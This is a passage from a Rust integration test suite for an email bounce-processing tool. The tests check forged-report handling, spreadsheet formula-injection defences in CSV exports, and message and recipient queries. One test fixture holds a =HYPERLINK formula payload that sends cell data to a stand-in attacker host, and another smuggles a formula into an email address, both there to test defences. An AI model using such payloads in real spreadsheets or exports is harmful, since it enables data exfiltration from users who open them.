            &format!("To: news-bounces+{local}={domain}@lists.example.org"),
        )
        .replace(&format!("user-{n}@example.net"), about)
}

#[test]
fn a_report_about_someone_else_than_the_verp_recipient_is_kept_flagged_and_never_suppresses() {
    each_engine(
        "a_report_about_someone_else_than_the_verp_recipient_is_kept_flagged_and_never_suppresses",
        |_engine| {
            let dir = tempfile::tempdir().unwrap();
            let inbox = dir.path().join("in");
            std::fs::create_dir_all(&inbox).unwrap();
            std::fs::write(
                inbox.join("forged.eml"),
                verp_dsn("alice@example.net", "ceo@victim.example", 1),
            )
            .unwrap();
            std::fs::write(
                inbox.join("real.eml"),
                verp_dsn("bob@example.net", "Bob@Example.NET", 2),
            )
            .unwrap();
            let out = bounced(dir.path(), &["import", "in"]);
            assert!(out.status.success(), "{}", stderr(&out));
            assert_eq!(
                stdout(&bounced(dir.path(), &["export"])),
                "Bob@example.net\n",
                "the report about bob, sent to bob's address, suppresses him; the forged one nobody"
            );
            let q = bounced(
                dir.path(),
                &[
                    "query",
                    "recipient",
                    "ceo@victim.example",
                    "--format",
                    "jsonl",
                ],
            );
            let v = json(&q);
            assert_eq!(v["recipient"]["state"], "active", "{v}");
            assert_eq!(v["recipient"]["hard_count"], 0, "{v}");
            assert_eq!(v["bounces"][0]["verp_mismatch"], true, "{v}");
            assert_eq!(v["bounces"][0]["reason"], "userunknown", "{v}");
            let csv = stdout(&bounced(
                dir.path(),
                &["query", "bounces", "--format", "csv"],
            ));
            assert!(csv.contains(",yes,"), "{csv}");
            let s = json(&bounced(dir.path(), &["stats", "--format", "jsonl"]));
            assert_eq!(s["verp_mismatches"], 1, "{s}");
            assert_eq!(s["bounces"], 2, "{s}");
            let table = stdout(&bounced(dir.path(), &["stats"]));
            assert!(table.contains("verp_mismatch"), "{table}");
            let (code, report) = db_check(dir.path(), "bounced.db");
            assert_eq!(code, Some(0), "{report}");
        },
    );
}

#[test]
fn exports_carry_no_spreadsheet_formula_and_a_formula_address_is_refused() {
    each_engine(
        "exports_carry_no_spreadsheet_formula_and_a_formula_address_is_refused",
        |_engine| {
            let dir = tempfile::tempdir().unwrap();
            let inbox = dir.path().join("in");
            std::fs::create_dir_all(&inbox).unwrap();
            let evil_diagnostic = "=HYPERLINK(\"http://evil.example/?d=\"&B2,\"see\")";
            let with_diagnostic = |n: u32, rcpt: &str| {
                dsn(n)
                    .replace(&format!("user-{n}@example.net"), rcpt)
                    .replace(
                        &format!(
                            "smtp; 550 5.1.1 <{rcpt}>: Recipient address rejected: User unknown"
                        ),
                        &format!("smtp; {evil_diagnostic}"),
                    )
            };
            std::fs::write(inbox.join("1.eml"), with_diagnostic(1, "+plus@example.net")).unwrap();
            std::fs::write(
                inbox.join("2.eml"),
                with_diagnostic(2, "=HYPERLINK(\"http://evil.example/\")@example.net"),
            )
            .unwrap();
            std::fs::write(inbox.join("3.eml"), with_diagnostic(3, "-dash@example.net")).unwrap();
            let out = bounced(dir.path(), &["import", "in"]);
            assert!(out.status.success(), "{}", stderr(&out));
            let out = bounced(dir.path(), &["suppress", "@at@example.net"]);
            assert_eq!(out.status.code(), Some(1), "{}", stdout(&out));

            let txt = stdout(&bounced(dir.path(), &["export"]));
            // The parenthesised text is an RFC 5322 comment, which the address parser drops: the formula
            // and its link never reach the database, only the mailbox `=HYPERLINK@example.net`, whose
            // leading `=` the CSV exports quote like any other.
            assert_eq!(
                txt, "+plus@example.net\n-dash@example.net\n=HYPERLINK@example.net\n",
                "the formula text is not recorded"
            );
            let formula = |cell: &str| cell.trim_start().starts_with(['=', '+', '-', '@']);
            for format in ["csv", "mailgun", "listmonk", "ses"] {
                let out = bounced(dir.path(), &["export", "--format", format]);
                assert!(out.status.success(), "{format}: {}", stderr(&out));
                let mut rows = csv::ReaderBuilder::new()
                    .has_headers(format != "ses")
                    .from_reader(out.stdout.as_slice());
                let mut seen = 0;
                for record in rows.records() {
                    let record = record.unwrap();
                    for cell in record.iter() {
                        assert!(!formula(cell), "{format}: {cell:?} in {record:?}");
                    }
                    assert!(
                        record.iter().next().unwrap().starts_with("'"),
                        "{format}: {record:?}"
                    );
                    seen += 1;
                }
                assert_eq!(seen, 3, "{format}");
            }
            let csv = stdout(&bounced(dir.path(), &["export", "--format", "csv"]));
            assert!(csv.contains("'=HYPERLINK("), "{csv}");
            assert!(csv.starts_with("email,"), "{csv}");
            let q = bounced(dir.path(), &["query", "bounces", "--format", "csv"]);
            let mut rows = csv::Reader::from_reader(q.stdout.as_slice());
            for record in rows.records() {
                for cell in record.unwrap().iter() {
                    assert!(!formula(cell), "query: {cell:?}");
                }
            }
            // Formats read by programs keep the exact address.
            let jsonl = stdout(&bounced(dir.path(), &["export", "--format", "jsonl"]));
            assert!(jsonl.contains("\"email\":\"+plus@example.net\""), "{jsonl}");
        },
    );
}

#[test]
fn query_messages_lists_what_failed_and_query_message_shows_one_with_its_bytes() {
    each_engine(
        "query_messages_lists_what_failed_and_query_message_shows_one_with_its_bytes",
        |_engine| {
            let dir = tempfile::tempdir().unwrap();
            inputs(dir.path());
            std::fs::write(
            dir.path().join("in/more/hello.eml"),
            "From: friend@example.com\nTo: list@example.org\nSubject: hello\n\nJust saying hello.\n",
        )
        .unwrap();
            assert!(
                bounced(dir.path(), &["import", "in"])
                    .status
                    .code()
                    .is_some()
            );

            let errors = bounced(
                dir.path(),
                &["query", "messages", "--kind", "error", "--format", "jsonl"],
            );
            assert!(errors.status.success(), "{}", stderr(&errors));
            let lines: Vec<serde_json::Value> = stdout(&errors)
                .lines()
                .map(|l| serde_json::from_str(l).unwrap())
                .collect();
            assert_eq!(lines.len(), 1, "{}", stdout(&errors));
            let e = &lines[0];
            assert_eq!(e["kind"], "error");
            assert!(
                e["source"].as_str().unwrap().ends_with("in/more/empty.eml"),
                "{e}"
            );
            assert!(!e["error"].as_str().unwrap_or("").is_empty(), "{e}");

            let table = stdout(&bounced(
                dir.path(),
                &["query", "messages", "--kind", "not_bounce"],
            ));
            assert!(table.starts_with("id  received_at"), "{table}");
            assert!(table.contains("hello.eml"), "{table}");
            assert_eq!(table.lines().count(), 2, "{table}");
            let all = stdout(&bounced(
                dir.path(),
                &["query", "messages", "--format", "csv"],
            ));
            assert!(
                all.starts_with("id,received_at,kind,reader,bounces,source,error\n"),
                "{all}"
            );
            assert_eq!(all.lines().count(), 1 + 7, "{all}");
            let bad = bounced(dir.path(), &["query", "messages", "--kind", "bogus"]);
            assert_eq!(bad.status.code(), Some(2));

            // One message: its metadata and bounces, and its bytes.
            let q = json(&bounced(
                dir.path(),
                &[
                    "query",
                    "bounces",
                    "--format",
                    "jsonl",
                    "--limit",
                    "1",
                    "--domain",
                    "example.net",
                ],
            ));
            let id = q["message_id"].as_i64().unwrap();
            let one = json(&bounced(
                dir.path(),
                &["query", "message", &id.to_string(), "--format", "jsonl"],
            ));
            assert_eq!(one["message"]["id"], id);
            assert_eq!(one["message"]["kind"], "dsn");
            assert_eq!(one["bounces"][0]["reason"], "userunknown");
            let table = stdout(&bounced(dir.path(), &["query", "message", &id.to_string()]));
            assert!(table.contains("kind         dsn (reader dsn)"), "{table}");
            assert!(table.contains("bounces:\nat "), "{table}");
            let raw = bounced(dir.path(), &["query", "message", &id.to_string(), "--raw"]);
            assert!(raw.status.success());
            let source = one["message"]["source"].as_str().unwrap().to_owned();
            if let Some(path) = source
                .strip_prefix("file:")
                .or(source.strip_prefix("maildir:"))
            {
                assert_eq!(raw.stdout, std::fs::read(path).unwrap(), "{source}");
            } else {
                assert!(String::from_utf8_lossy(&raw.stdout).contains("Final-Recipient"));
            }
            let csv = stdout(&bounced(
                dir.path(),
                &["query", "message", &id.to_string(), "--format", "csv"],
            ));
            assert!(csv.starts_with("section,index,field,value\n"), "{csv}");
            assert!(csv.contains("message,0,kind,dsn\n"), "{csv}");
            assert!(csv.contains("bounce,1,reason,userunknown\n"), "{csv}");
            let missing = bounced(dir.path(), &["query", "message", "999999"]);
            assert_eq!(missing.status.code(), Some(1));
            assert!(
                stderr(&missing).contains("no message 999999"),
                "{}",
                stderr(&missing)
            );
        },
    );
}

#[test]
fn query_recipient_as_csv_or_jsonl_is_the_whole_record_and_export_takes_until() {
    each_engine(
        "query_recipient_as_csv_or_jsonl_is_the_whole_record_and_export_takes_until",
        |_engine| {
            let dir = tempfile::tempdir().unwrap();
            inputs(dir.path());
            assert!(
                bounced(dir.path(), &["import", "in"])
                    .status
                    .code()
                    .is_some()
            );
            let csv = stdout(&bounced(
                dir.path(),
                &[
                    "query",
                    "recipient",
                    "user-1@example.net",
                    "--format",
                    "csv",
                ],
            ));
            assert!(csv.starts_with("section,index,field,value\n"), "{csv}");
            for line in [
                "recipient,0,state,suppressed\n",
                "recipient,0,hard_count,1\n",
                "recipient,0,soft_score,0\n",
                "history,1,cause,hard\n",
                "history,1,change,suppressed\n",
                "bounce,1,reason,userunknown\n",
                "bounce,1,status,5.1.1\n",
            ] {
                assert!(csv.contains(line), "{line:?} in:\n{csv}");
            }
            let v = json(&bounced(
                dir.path(),
                &[
                    "query",
                    "recipient",
                    "user-1@example.net",
                    "--format",
                    "jsonl",
                ],
            ));
            assert_eq!(v["recipient"]["hard_count"], 1, "{v}");
            assert_eq!(v["history"][0]["cause"], "hard", "{v}");
            assert_eq!(v["bounces"].as_array().unwrap().len(), 1, "{v}");

            // A failure of 2 March 2026 10:00 (and the mbox's of 2 March 09:00), the rest later.
            let dated = dsn(40).replace(
                "Action: failed\n",
                "Action: failed\nLast-Attempt-Date: Mon, 2 Mar 2026 10:00:00 +0000\n",
            );
            std::fs::write(dir.path().join("dated.eml"), dated).unwrap();
            assert!(
                bounced(dir.path(), &["import", "dated.eml"])
                    .status
                    .success()
            );
            let out = bounced(dir.path(), &["export", "--until", "2026-03-03"]);
            assert!(out.status.success(), "{}", stderr(&out));
            assert_eq!(stdout(&out), "user-3@example.net\nuser-40@example.net\n");
            let out = stdout(&bounced(
                dir.path(),
                &[
                    "export",
                    "--since",
                    "2026-03-02T09:30:00Z",
                    "--until",
                    "2026-03-02T10:00:00Z",
                ],
            ));
            assert_eq!(out, "", "until is exclusive");
            let all = stdout(&bounced(dir.path(), &["export"]));
            assert!(
                all.contains("user-40@example.net") && all.contains("user-1@example.net"),
                "{all}"
            );
        },
    );
}
